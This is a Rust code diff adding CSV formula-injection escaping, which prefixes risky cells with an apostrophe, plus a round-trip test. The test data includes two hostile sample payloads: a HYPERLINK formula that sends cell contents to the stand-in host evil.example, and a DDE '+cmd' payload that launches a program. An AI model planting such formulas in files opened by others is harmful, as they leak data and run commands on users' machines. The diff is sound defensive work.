@@ -40,6 +40,35 @@ pub struct Table {
     pub rows: Vec<Row>,
 }
 
+/// Characters that make a spreadsheet read a cell as a formula (OWASP's CSV injection list).
+const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// A cell for a CSV that people open in a spreadsheet: one that would start a formula
+/// (`=HYPERLINK(…)`, `+cmd|…`, `@SUM(…)`) is written with a leading apostrophe, which
+/// spreadsheets show as text. [`read`] takes the apostrophe off again, so Allybook's own exports
+/// import exactly.
+pub fn spreadsheet_safe(cell: &str) -> std::borrow::Cow<'_, str> {
+    // A text that already starts with an apostrophe before such a character gets another, so
+    // reading takes back exactly one.
+    let escaped_already = cell
+        .strip_prefix('\'')
+        .is_some_and(|rest| rest.starts_with(FORMULA_START));
+    if cell.starts_with(FORMULA_START) || escaped_already {
+        std::borrow::Cow::Owned(format!("'{cell}"))
+    } else {
+        std::borrow::Cow::Borrowed(cell)
+    }
+}
+
+/// The text of a CSV cell written the spreadsheet way: `'+49 89…` and `'=x` are `+49 89…` and `=x`.
+fn unescape_cell(cell: &str) -> &str {
+    let formula = |s: &str| s.starts_with(FORMULA_START);
+    match cell.strip_prefix('\'') {
+        Some(rest) if formula(rest) || rest.strip_prefix('\'').is_some_and(formula) => rest,
+        _ => cell,
+    }
+}
+
 /// Reads a user-chosen file: refuses what is not a regular file (a FIFO or a device would block
 /// or never end) and what is too large, before reading a byte.
 pub fn read_file(path: &Path) -> Result<Vec<u8>> {
@@ -363,7 +392,7 @@ fn read_text(bytes: &[u8]) -> Result<Table> {
         });
         rows.push(Row {
             line,
-            cells: rec.iter().map(String::from).collect(),
+            cells: rec.iter().map(|c| unescape_cell(c).to_string()).collect(),
         });
     }
     let delim = match delimiter {
@@ -506,6 +535,28 @@ mod tests {
         assert_eq!(sniff_delimiter("\"x;y\",b,c\n"), b',');
         assert_eq!(sniff_delimiter("name\n"), b',');
         assert_eq!(sniff_delimiter("Title\nname;city;country\n"), b';');
+    }
+
+    #[test]
+    fn formula_cells_are_written_as_text_and_read_back_exactly() {
+        for cell in [
+            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")",
+            "+cmd|' /C calc'!A0",
+            "-2+3",
+            "@SUM(1)",
+            "\tTab",
+            "plain",
+            "'quoted",
+            "'=already",
+        ] {
+            let safe = spreadsheet_safe(cell);
+            assert!(!safe.starts_with(FORMULA_START), "{cell:?} → {safe:?}");
+            let mut w = csv::Writer::from_writer(Vec::new());
+            w.write_record(["name", safe.as_ref()]).expect("write");
+            let bytes = w.into_inner().expect("bytes");
+            let t = read(&[b"h1,h2\n".as_slice(), &bytes].concat(), None).expect("read");
+            assert_eq!(t.rows[0].cells[1], cell, "round trip of {cell:?}");
+        }
     }
 
     #[test]
